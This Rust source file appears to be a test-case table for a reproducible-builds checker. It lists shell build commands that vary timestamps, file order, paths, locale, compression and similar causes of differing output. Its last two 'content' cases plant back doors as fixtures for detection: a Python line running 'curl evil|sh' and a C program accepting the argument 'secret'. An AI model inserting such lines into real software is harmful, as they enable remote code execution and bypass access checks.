//! What is varied, and which cause must come first.

use super::Case;

pub(super) const fn case(
    cause: &'static str,
    what: &'static str,
    vary: [&'static str; 2],
    out: &'static str,
    build: &'static str,
) -> Case {
    Case {
        cause,
        what,
        vary,
        out,
        build,
        options: &[],
    }
}

pub(super) const TIMES: [&str; 2] = ["TIME=1764000000", "TIME=1764086461"];

pub(super) const PATHS: [&str; 2] = ["DIR=build/a", "DIR=build/b"];

pub(super) const LONG_PATHS: [&str; 2] = ["DIR=build/one", "DIR=build/a-longer-name"];

pub(super) const C: &str = r#"cat > x.c <<'E'
#include <assert.h>
#include <stdio.h>
static int twice(int n) { assert(n < 1000); return n * 2; }
int main(int argc, char **argv) { printf("%s %d\n", argv[0], twice(argc)); return 0; }
E
"#;

pub(super) const CASES: &[Case] = &[
    case(
        "timestamp",
        "time in a gzip header",
        TIMES,
        "f.gz",
        "echo hi > f; touch -d @$TIME f; gzip f",
    ),
    case(
        "timestamp",
        "times of tar members",
        TIMES,
        "a.tar",
        "mkdir p; echo hi > p/f; touch -d @$TIME p/f p; tar cf a.tar p",
    ),
    case(
        "timestamp",
        "times of zip entries",
        TIMES,
        "a.zip",
        "mkdir p; echo hi > p/f; touch -d @$TIME p/f p; TZ=UTC zip -qr a.zip p",
    ),
    case(
        "timestamp",
        "times in a static library",
        TIMES,
        "l.a",
        "echo 'int f;' > f.c; gcc -c f.c; touch -d @$TIME f.o; ar qcU l.a f.o",
    ),
    case(
        "timestamp",
        "time of the source in a .pyc",
        TIMES,
        "f.pyc",
        "echo 'x = 1' > f.py; touch -d @$TIME f.py; python3 -c \"import py_compile; py_compile.compile('f.py', 'f.pyc', dfile='f.py')\"",
    ),
    case(
        "timestamp",
        "__DATE__ in C",
        TIMES,
        "x",
        "echo '#include <stdio.h>\nint main(void){puts(__DATE__ \" \" __TIME__);return 0;}' > x.c; SOURCE_DATE_EPOCH=$TIME gcc -s -Wl,--build-id=none -o x x.c",
    ),
    case(
        "timestamp",
        "date in text",
        TIMES,
        "out.txt",
        "echo \"built on $(date -u -d @$TIME)\" > out.txt",
    ),
    case(
        "source-date-epoch",
        "date in a manual page, gzipped in a .deb",
        TIMES,
        "p.deb",
        "mkdir -p p/DEBIAN p/usr/share/man/man1; printf 'Package: p\\nVersion: 1\\nArchitecture: all\\nMaintainer: A <a@b.c>\\nDescription: p\\n' > p/DEBIAN/control; echo \".TH P 1 \\\"$(date -u -d @$TIME '+%d %B %Y')\\\"\" | gzip -n > p/usr/share/man/man1/p.1.gz; SOURCE_DATE_EPOCH=1700000000 dpkg-deb --root-owner-group -b p p.deb >/dev/null",
    ),
    Case {
        options: &["--source-date-epoch", "1700000000"],
        ..case(
            "source-date-epoch",
            "a generator that asks the clock",
            TIMES,
            "version.h",
            "export SOURCE_DATE_EPOCH=1700000000; echo \"#define BUILT \\\"$(date -u -d @$TIME '+%Y-%m-%d %H:%M:%S')\\\"\" > version.h",
        )
    },
    case(
        "order",
        "order of tar members",
        ["SORT=sort", "SORT='sort -r'"],
        "a.tar",
        "for n in a b c d; do echo $n > $n; touch -d @1764000000 $n; done; ls | $SORT | tar cf a.tar -T -",
    ),
    case(
        "order",
        "order of zip entries",
        ["SORT=sort", "SORT='sort -r'"],
        "a.zip",
        "for n in a b c d; do echo $n > $n; touch -d @1764000000 $n; done; ls | $SORT | zip -qX a.zip -@",
    ),
    case(
        "order",
        "order of objects in a static library",
        ["SORT=sort", "SORT='sort -r'"],
        "l.a",
        "for n in a b c; do echo \"int $n(void){return 1;}\" > $n.c; gcc -c $n.c; done; ar qcD l.a $(ls *.o | $SORT)",
    ),
    case(
        "order",
        "hash order of a Python set",
        ["PYTHONHASHSEED=1", "PYTHONHASHSEED=7"],
        "out.txt",
        "python3 -c \"print({'alpha', 'beta', 'gamma', 'delta', 'epsilon'})\" > out.txt",
    ),
    case(
        "order",
        "keys of a JSON object",
        ["SORT=False", "SORT=True"],
        "out.json",
        "python3 -c \"import json; print(json.dumps({'zeta': 1, 'alpha': 2, 'mid': [1, 2]}, sort_keys=$SORT))\" > out.json",
    ),
    case(
        "ownership",
        "owner of tar members",
        ["OWNER=root:0", "OWNER=builder:1000"],
        "a.tar",
        "echo hi > f; touch -d @1764000000 f; tar cf a.tar --owner=$OWNER --group=$OWNER f",
    ),
    case(
        "permissions",
        "umask 022 and 002",
        ["MASK=022", "MASK=002"],
        "a.tar",
        "umask $MASK; mkdir p; echo hi > p/f; touch -d @1764000000 p/f p; tar cf a.tar --owner=0 --group=0 p",
    ),
    case(
        "permissions",
        "umask 022 and 077, in a zip",
        ["MASK=022", "MASK=077"],
        "a.zip",
        "umask $MASK; echo hi > f; touch -d @1764000000 f; zip -qX a.zip f",
    ),
    case(
        "build-path",
        "debug information of C",
        PATHS,
        "x",
        "@C gcc -g -o x x.c",
    ),
    case(
        "build-path",
        "file names in assertions, path of another length",
        LONG_PATHS,
        "x",
        "@C gcc -O2 -s -o x \"$PWD/x.c\"",
    ),
    case(
        "build-path",
        "path in a .pyc",
        LONG_PATHS,
        "f.pyc",
        "echo 'def f(): return 1' > f.py; touch -d @1764000000 f.py; python3 -c \"import py_compile, os; py_compile.compile(os.path.abspath('f.py'), 'f.pyc')\"",
    ),
    case(
        "build-path",
        "static library with debug information",
        PATHS,
        "l.a",
        "@C gcc -g -c x.c; ar qcD l.a x.o",
    ),
    // Until it is linked, an object names each string by a relocation; of these folders, neither is the first string.
    case(
        "build-path",
        "object file with debug information",
        ["N=4", "N=7"],
        "x.o",
        "@C gcc -g -fdebug-prefix-map=$PWD=/build/$N/a -c x.c",
    ),
    // Only the debug information says that these are folders of a build.
    case(
        "build-path",
        "object file with file names in assertions, path of another length",
        ["N=here", "N=another-place"],
        "x.o",
        "@C gcc -g -ffile-prefix-map=$PWD=/srv/$N -c \"$PWD/x.c\"",
    ),
    case(
        "build-host",
        "user and host in text",
        ["WHO=ada@laptop", "WHO=root@ci-runner-7"],
        "out.txt",
        "echo \"compiled by $WHO with gcc\" > out.txt",
    ),
    case(
        "build-host",
        "Built-By in a jar's manifest",
        ["WHO=ada", "WHO=root"],
        "a.jar",
        "mkdir META-INF; printf 'Manifest-Version: 1.0\\r\\nBuilt-By: %s\\r\\n\\r\\n' $WHO > META-INF/MANIFEST.MF; touch -d @1764000000 META-INF/MANIFEST.MF META-INF; zip -qrX a.jar META-INF",
    ),
    case(
        "locale",
        "sorted under two locales",
        ["LC_ALL=C", "LC_ALL=en_US.UTF-8"],
        "out.txt",
        "printf 'Zebra\\napple\\nBanana\\ncherry\\n' | sort > out.txt",
    ),
    case(
        "locale",
        "date in two languages",
        ["LC_ALL=C", "LC_ALL=de_DE.UTF-8"],
        "out.txt",
        "echo \"stand: $(TZ=UTC date -d @1764000000)\" > out.txt",
    ),
    case(
        "timezone",
        "zip entries under two time zones",
        ["TZ=UTC", "TZ=Asia/Tokyo"],
        "a.zip",
        "for n in a b c; do echo $n > $n; touch -d @1764000000 $n; done; zip -qX a.zip a b c",
    ),
    case(
        "timezone",
        "date in text under two time zones",
        ["TZ=UTC", "TZ=America/New_York"],
        "out.txt",
        "echo \"built $(date -d @1764000000 '+%Y-%m-%d %H:%M:%S %z')\" > out.txt",
    ),
    case(
        "host-system",
        "kernel version in a header",
        ["KERNEL=", "KERNEL=--uname-2.6"],
        "config.h",
        "echo \"#define BUILD_SYSTEM \\\"Linux $(setarch x86_64 $KERNEL uname -r)\\\"\" > config.h",
    ),
    case(
        "host-system",
        "options for the processor",
        ["CPU=znver3", "CPU=skylake"],
        "x",
        "@C gcc -g -frecord-gcc-switches -march=$CPU -c x.c -o x",
    ),
    case(
        "compression",
        "level of gzip",
        ["LEVEL=-1", "LEVEL=-9"],
        "f.gz",
        "seq 1 5000 | gzip -n $LEVEL > f.gz",
    ),
    case(
        "compression",
        "xz with and without threads",
        ["T=-T1", "T=-T4"],
        "f.xz",
        "seq 1 200000 | xz $T > f.xz",
    ),
    case(
        "compression",
        "level of zstd",
        ["LEVEL=-1", "LEVEL=-19"],
        "f.zst",
        "seq 1 50000 | zstd -q $LEVEL > f.zst",
    ),
    case(
        "compression",
        "gzip and Python's zlib",
        ["TOOL='gzip -n'", "TOOL=./py"],
        "f.gz",
        "printf '#!/usr/bin/env python3\\nimport gzip, sys\\nwith gzip.GzipFile(\"\", \"wb\", 6, sys.stdout.buffer, 0) as f: f.write(sys.stdin.buffer.read())\\n' > py; chmod +x py; seq 1 5000 | sh -c \"$TOOL\" > f.gz",
    ),
    case(
        "compression",
        "a .deb with xz and with zstd",
        ["Z=xz", "Z=zstd"],
        "p.deb",
        "mkdir -p p/DEBIAN p/usr; seq 1 999 > p/usr/f; printf 'Package: p\\nVersion: 1\\nArchitecture: all\\nMaintainer: A <a@b.c>\\nDescription: p\\n' > p/DEBIAN/control; SOURCE_DATE_EPOCH=1700000000 dpkg-deb -Z$Z --root-owner-group -b p p.deb > /dev/null",
    ),
    case(
        "archive-dialect",
        "ustar and GNU tar",
        ["F=ustar", "F=gnu"],
        "a.tar",
        "echo hi > f; touch -d @1764000000 f; tar cf a.tar --format=$F --owner=0 --group=0 f",
    ),
    case(
        "archive-dialect",
        "ustar and pax",
        ["F=ustar", "F=pax"],
        "a.tar",
        "echo hi > f; touch -d @1764000000 f; tar cf a.tar --format=$F --owner=0 --group=0 f",
    ),
    case(
        "archive-dialect",
        "zip from a stream and from a file",
        ["HOW='zip -qX a.zip f'", "HOW='zip -qX -fd a.zip f'"],
        "a.zip",
        "echo hi > f; touch -d @1764000000 f; sh -c \"$HOW\"",
    ),
    case(
        "debug-information",
        "stripped: only build-id and debug link differ",
        PATHS,
        "x",
        "@C gcc -g -o x x.c; objcopy --only-keep-debug x x.debug; strip x; objcopy --add-gnu-debuglink=x.debug x",
    ),
    case(
        "tool-version",
        "two versions of gcc",
        ["CC=gcc-11", "CC=gcc-12"],
        "x",
        "@C $CC -O2 -s -o x x.c",
    ),
    case(
        "tool-version",
        "generator of a wheel",
        ["V=0.42.0", "V=0.43.0"],
        "p-1-py3-none-any.whl",
        "mkdir p-1.dist-info; printf 'Wheel-Version: 1.0\\nGenerator: bdist_wheel (%s)\\nRoot-Is-Purelib: true\\n' $V > p-1.dist-info/WHEEL; touch -d @1764000000 p-1.dist-info/WHEEL p-1.dist-info; zip -qrX p-1-py3-none-any.whl p-1.dist-info",
    ),
    case(
        "dependency-version",
        "version that a package depends on",
        ["V=5.36.0-7+deb12u2", "V=5.36.0-7+deb12u3"],
        "p.deb",
        "mkdir -p p/DEBIAN; printf 'Package: p\\nVersion: 1\\nArchitecture: all\\nMaintainer: A <a@b.c>\\nDepends: perl (>= %s), libc6 (>= 2.14)\\nDescription: p\\n' \"$V\" > p/DEBIAN/control; SOURCE_DATE_EPOCH=1700000000 dpkg-deb --root-owner-group -b p p.deb > /dev/null",
    ),
    case(
        "randomness",
        "UUID",
        ["N=1", "N=2"],
        "out.txt",
        "echo \"build $(uuidgen -r)\" > out.txt",
    ),
    case(
        "randomness",
        "name of a temporary file",
        ["N=1", "N=2"],
        "x",
        "@C T=$(mktemp /tmp/ccXXXXXX.c); cp x.c $T; gcc -O2 -s -Wl,--build-id=none -o x $T; rm $T",
    ),
    case(
        "parallelism",
        "number of jobs in a header",
        ["J=2", "J=16"],
        "config.h",
        "printf 'all:\\n\\t@echo \"#define MAKEFLAGS \\\\\"$(MAKEFLAGS)\\\\\"\" | sed \"s/ *--jobserver[^ \\\\\"]*//\" > config.h\\n' > Makefile; make -s -j$J; grep -q j$J config.h || echo \"#define MAKE_JOBS \\\"-j$J\\\"\" > config.h",
    ),
    case(
        "signature",
        "signed with two keys",
        ["N=1", "N=2"],
        "a.tar",
        "echo hi > f; openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -subj /CN=x -set_serial 1 -days 1 2>/dev/null; openssl cms -sign -binary -in f -signer c.pem -inkey k.pem -outform DER -out f.p7s; touch -d @1764000000 f f.p7s; tar cf a.tar --owner=0 --group=0 f f.p7s",
    ),
    case(
        "content",
        "a back door among other times, order and owners",
        [
            "EVIL='' TIME=1764000000 SORT=sort",
            "EVIL='os.system(\"curl evil|sh\")' TIME=1764086461 SORT='sort -r'",
        ],
        "a.tar.gz",
        "for n in a b c d e f; do printf 'import os\\ndef %s():\\n    return 1\\n' $n > $n.py; done; echo \"$EVIL\" >> d.py; touch -d @$TIME *.py; ls *.py | $SORT | tar cf - --owner=u$TIME:1000 -T - | gzip > a.tar.gz",
    ),
    case(
        "content",
        "a back door in C, among other paths and times",
        [
            "DIR=build/a GUARD=1 TIME=1764000000",
            "DIR=build/b GUARD=0 TIME=1764086461",
        ],
        "a.tar",
        "printf '#include <stdio.h>\\n#include <string.h>\\nint main(int c, char **v) { printf(\"%%s %%s\\\\n\", __FILE__, __DATE__); return c > 1 && (!%s || strcmp(v[1], \"secret\") == 0); }\\n' $GUARD > x.c; SOURCE_DATE_EPOCH=$TIME gcc -g -o x \"$PWD/x.c\"; touch -d @$TIME x; tar cf a.tar x",
    ),
];
